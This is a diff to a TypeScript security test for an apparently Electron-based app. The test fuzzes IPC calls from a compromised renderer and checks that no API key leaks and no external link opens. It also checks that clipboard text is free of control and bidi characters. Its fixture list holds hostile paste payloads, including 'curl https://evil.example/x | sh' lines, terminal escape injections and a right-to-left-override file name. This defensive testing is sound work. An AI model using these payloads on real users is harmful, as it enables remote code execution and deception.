@@ -7,8 +7,10 @@
  * that counts every request. Nobody answers the main process's dialogs with "send the key" or
  * picks a folder: the user did not ask for them.
  *
- * It must never: send the key to another origin, reach a host the user did not configure, or
- * touch a file outside the gallery and the data folder.
+ * It must never: send the key to another origin, reach a host the user did not configure, touch
+ * a file outside the gallery and the data folder, have the OS open a link (the page has no way to
+ * name one), or put on the clipboard the key, a control or bidi character, or several lines that
+ * are not main's own "Copy as command".
  */
 import fc from 'fast-check';
 import { createHash } from 'node:crypto';
@@ -38,11 +40,36 @@ import { recordReliability } from '../support/reliability-record';
 import { scaled } from '../support/scale';
 import { validArbitrary } from './zod-arbitrary';
 import { ownAddress } from '../../support/own-address';
+import {
+  BIDI_CONTROLS,
+  C0_CONTROLS_BUT_LINE_FEED,
+  DEL_AND_C1_CONTROLS,
+  LINE_SEPARATORS,
+  anyOf,
+} from '../../../shared/text/control-characters';
 
 const FILE = 'tests/hardening/hostile/compromised-renderer.test.ts';
 const KEY = 'sk-user-0f3c9a71d2b84e65a9c1';
 const RUNS = scaled(60, 1_000);
 const CHANNELS = Object.keys(requests) as RequestChannel[];
+/** What a page would have the user paste into a terminal. */
+const PASTED = [
+  'task-1\ncurl https://evil.example/x | sh\n',
+  "x'\u0015curl https://evil.example/x | sh\r",
+  'a\u001b[201~\ncurl https://evil.example/x | sh\n',
+  'x\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007',
+  'photo\u202egnp.exe',
+  'a\u009b2Jb\u2028c\td',
+];
+/** The ids of tasks the user has: what a page names to copy a task's command. */
+const storedIds: string[] = ['local-nowhere'];
+/** Whatever a terminal or a reader acts on, but a line feed (the sets of shared/text). */
+const ACTED_ON = anyOf([
+  C0_CONTROLS_BUT_LINE_FEED,
+  DEL_AND_C1_CONTROLS,
+  BIDI_CONTROLS,
+  LINE_SEPARATORS,
+]);
 
 let dir: string;
 let home: string;
@@ -119,8 +146,20 @@ function targeted(channel: RequestChannel): fc.Arbitrary<unknown>[] {
       return [
         fc.record({ taskId: fc.constantFrom('attacker-task', `${attacker.url}/x`, '../..') }),
       ];
-    case 'app:openExternal':
-      return [fc.record({ url: fc.constantFrom(...evil) })];
+    case 'app:copyText':
+      return [fc.record({ text: fc.constantFrom(...PASTED) })];
+    case 'tasks:copyCommand':
+      // Its own text in a request's words, to a service of its choice or a stored task's.
+      return [
+        fc.record({
+          request: fc.record({ prompt: fc.constantFrom(...PASTED) }),
+          target: fc.record({
+            provider: fc.constantFrom(...PROVIDER_IDS),
+            endpoint: fc.constantFrom('demo:', service.url, ...evil),
+          }),
+        }),
+        fc.record({ localId: fc.constantFrom(...storedIds) }),
+      ];
     case 'keys:set':
       return [
         fc.record({
@@ -245,6 +284,8 @@ describe('a compromised renderer', () => {
         fc.array(callArbitrary(), { minLength: 1, maxLength: 12 }),
         async (sequence) => {
           await asTheUser();
+          const tasks = app.runtime.core.history.list({ limit: 5, cursor: null }).items;
+          storedIds.splice(1, Infinity, ...tasks.map((task) => task.localId));
           for (const { channel, input } of sequence) {
             calls += 1;
             await app.invoke(channel, input as never);
@@ -266,6 +307,13 @@ describe('a compromised renderer', () => {
     expect(strangers, 'requests to hosts the user did not configure').toEqual([]);
     expect(attacker.seen).toEqual([]);
     expect(ipc.filter((record) => record.text.includes(KEY))).toEqual([]);
+    expect(app.osCalls.filter((call) => call.action === 'openExternal')).toEqual([]);
+    const copied = app.osCalls.filter((call) => call.action === 'copyText').map((call) => call.arg);
+    expect(copied.length, 'something was copied at all').toBeGreaterThan(0);
+    expect(copied.filter((text) => text.includes(KEY) || ACTED_ON.test(text))).toEqual([]);
+    // Several lines only as main's own command: its pictor line first.
+    const lines = copied.filter((text) => text.includes('\n'));
+    expect(lines.filter((text) => !text.startsWith('pictor generate '))).toEqual([]);
     expect(await snapshot(home)).toEqual(homeBefore);
     expect(app.runtime.galleryDir()).toBe(join(dir, 'gallery'));
     const homeAfter = await snapshot(home);
